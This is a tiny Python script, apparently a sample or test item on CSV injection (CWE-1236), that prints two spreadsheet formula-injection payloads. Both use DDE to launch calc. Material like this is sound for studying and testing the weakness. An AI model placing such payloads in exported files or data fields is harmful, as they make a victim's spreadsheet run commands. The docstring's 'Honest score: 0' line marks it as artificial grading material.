"""Print what a spreadsheet runs.

Known from: CSV injection, CWE-1236.
Honest score: 0.
"""


print("=cmd|' /C calc'!A0")
print("@SUM(1+1)*cmd|' /C calc'!A0")
